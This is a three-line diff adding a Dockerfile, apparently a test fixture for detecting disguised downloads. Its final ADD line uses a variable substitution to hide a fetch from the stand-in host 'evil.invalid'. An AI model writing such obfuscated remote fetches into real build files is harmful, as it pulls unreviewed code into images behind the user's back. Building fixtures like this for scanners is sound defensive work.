@@ -1,0 +1,3 @@
+FROM registry.invalid/base@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+ENV P=x_evil.invalid/x
+ADD ${P/x_/https:\/\/} /x
